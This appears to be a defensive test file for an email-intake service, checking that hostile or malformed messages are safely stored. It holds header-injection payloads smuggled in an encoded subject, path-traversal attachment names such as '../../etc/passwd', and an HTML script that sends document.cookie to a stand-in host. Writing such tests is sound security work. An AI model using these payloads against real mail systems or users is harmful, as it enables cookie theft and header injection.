/** Hostile and broken input through the real intake. */
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import MailComposer from 'nodemailer/lib/mail-composer';
import { parseEmail } from '../../../src/mail/parse';
import { intakeHarness, mailbox } from '../../support/services';

const mb = mailbox();
const head = (extra = '') => `From: Ivan <ivan@customer.test>\r\nTo: support@example.test\r\nMessage-ID: <${crypto.randomUUID()}@x>\r\n${extra}`;

test('CR/LF smuggled into a subject cannot inject headers into our reply', async () => {
  const h = intakeHarness();
  // An encoded-word that decodes to a line break followed by a header.
  const evil = `=?utf-8?B?${Buffer.from('Hello\r\nBcc: victim@evil.test\r\nX-Injected: yes').toString('base64')}?=`;
  await h.intake.process({ raw: Buffer.from(`${head()}Subject: ${evil}\r\n\r\nbody\r\n`), mailbox: mb, receivedAt: h.clock.now() });
  const [o] = h.all<{ subject: string; to_address: string }>('SELECT subject, to_address FROM outbox');
  expect(o.subject).not.toMatch(/[\r\n]/);
  const built = await new MailComposer({ from: 'support@example.test', to: o.to_address, subject: o.subject, text: 'x' }).compile().build();
  const headers = built.toString().split('\r\n\r\n')[0];
  expect(headers).not.toMatch(/^Bcc:/im);
  expect(headers).not.toMatch(/^X-Injected:/im);
  h.close();
});

test('attachment names with ../, absolute paths, control characters or 300 characters never become paths', async () => {
  const h = intakeHarness({ attachmentMaxBytes: 10_000 });
  const names = ['../../etc/passwd', '/tmp/owned.txt', 'a\u0001b\u0007c.txt', `${'я'.repeat(300)}.txt`];
  const parts = names.map((n, i) => `--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(n)}\r\n\r\ncontent ${i}\r\n`).join('');
  const raw = Buffer.from(`${head()}Subject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee files\r\n${parts}--b--\r\n`);
  expect((await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() })).outcome).toBe('created');
  const rows = h.all<{ filename: string; sha256: string }>('SELECT filename, sha256 FROM attachments ORDER BY id');
  expect(rows).toHaveLength(4);
  // Stored only under their content hash, inside the data directory.
  const stored = fs.readdirSync(path.join(h.dataDir, 'attachments'), { recursive: true }).map(String).filter((f) => f.includes(path.sep));
  expect(stored.map((f) => path.basename(f)).sort()).toEqual(rows.map((r) => r.sha256).sort());
  expect(fs.existsSync('/tmp/owned.txt')).toBe(false);
  h.close();
});

test.each([
  ['a zero-byte file', Buffer.alloc(0)],
  ['binary garbage', crypto.randomBytes(4096)],
  ['no headers at all', Buffer.from('just some text\r\n')],
  ['a header line of 100 000 characters', Buffer.from(`${head()}Subject: ${'x'.repeat(100_000)}\r\n\r\nbody\r\n`)],
  ['10 000 recipients', Buffer.from(`${head().replace('To: support@example.test', `To: ${Array.from({ length: 10_000 }, (_, i) => `r${i}@customer.test`).join(', ')}`)}Subject: many\r\n\r\nbody\r\n`)],
  ['missing From and Message-ID', Buffer.from('Subject: anonymous\r\n\r\nbody\r\n')],
  ['duplicated headers', Buffer.from(`${head()}${head()}Subject: one\r\nSubject: two\r\n\r\nbody\r\n`)],
  ['8-bit raw headers in an unknown charset', Buffer.concat([Buffer.from(`${head()}Subject: `), Buffer.from([0xc0, 0xe2, 0xe0, 0xf0, 0xe8, 0xff]), Buffer.from('\r\nContent-Type: text/plain; charset=x-unknown-42\r\n\r\n'), Buffer.from([0xc0, 0xe2, 0xe0]), Buffer.from('\r\n')])],
])('%s: stored, never a crash', async (_what, raw) => {
  const h = intakeHarness();
  const out = await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() });
  expect(['created', 'ignored']).toContain(out.outcome);
  expect(h.all('SELECT id FROM messages')).toHaveLength(1);
  h.close();
});

test('message/rfc822 nested ten levels deep parses (inner texts up to three levels are joined)', async () => {
  let inner = `From: a@b.test\r\nSubject: level 0\r\n\r\ninnermost text\r\n`;
  for (let i = 1; i <= 10; i++) {
    inner = `From: a@b.test\r\nSubject: level ${i}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\nContent-Type: text/plain\r\n\r\ntext ${i}\r\n--b${i}\r\nContent-Type: message/rfc822\r\n\r\n${inner}\r\n--b${i}--\r\n`;
  }
  const mail = await parseEmail(Buffer.from(inner));
  expect(mail.subject).toBe('level 10');
  expect(mail.text).toContain('text 10');
});

test('1 000 attachments are all recorded', async () => {
  const h = intakeHarness({ attachmentMaxBytes: 100 });
  const parts = Array.from({ length: 1000 }, (_, i) => `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="f${i}.bin"\r\n\r\n${i}\r\n`).join('');
  const raw = Buffer.from(`${head()}Subject: many files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${parts}--b--\r\n`);
  expect((await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() })).outcome).toBe('created');
  expect(h.all('SELECT id FROM attachments')).toHaveLength(1000);
  h.close();
});

test('HTML with scripts, styles and event handlers: never rendered, only its text is kept', async () => {
  const html = `<html><head><style>p { color: red }</style><script>document.location='https://evil.test/?c='+document.cookie</script></head>
<body onload="steal()"><p>Сервер&nbsp;недоступен</p><img src="https://evil.test/pixel.gif" onerror="alert(1)"><iframe src="https://evil.test"></iframe><a href="javascript:alert(2)">ссылка</a></body></html>`;
  const raw = Buffer.from(`${head()}Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`);
  const h = intakeHarness();
  await h.intake.process({ raw, mailbox: mb, receivedAt: h.clock.now() });
  const [m] = h.all<{ text: string }>("SELECT text FROM messages WHERE direction = 'in'");
  expect(m.text.replace(/\s+/g, ' ')).toContain('Сервер недоступен');
  expect(m.text).toContain('ссылка');
  for (const bad of ['<script', 'document.cookie', 'color: red', 'onload', 'onerror', 'evil.test', 'javascript:', '[]']) expect(m.text).not.toContain(bad);
  const [reply] = h.all<{ text: string }>('SELECT text FROM outbox');
  expect(reply.text).not.toMatch(/<script|evil\.test/);
  h.close();
});
